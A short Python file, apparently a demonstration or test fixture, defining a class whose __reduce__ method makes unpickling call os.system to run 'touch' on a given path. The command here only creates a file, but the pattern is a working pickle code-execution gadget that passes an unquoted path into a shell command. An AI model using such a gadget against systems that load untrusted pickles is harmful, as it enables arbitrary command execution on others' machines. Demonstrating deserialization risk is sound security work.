"""What a pickle can do."""

from __future__ import annotations

import os
from pathlib import Path


class Evil:
    """Makes a file as soon as it is unpickled."""

    def __init__(self, path: Path | str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {self.path}",)
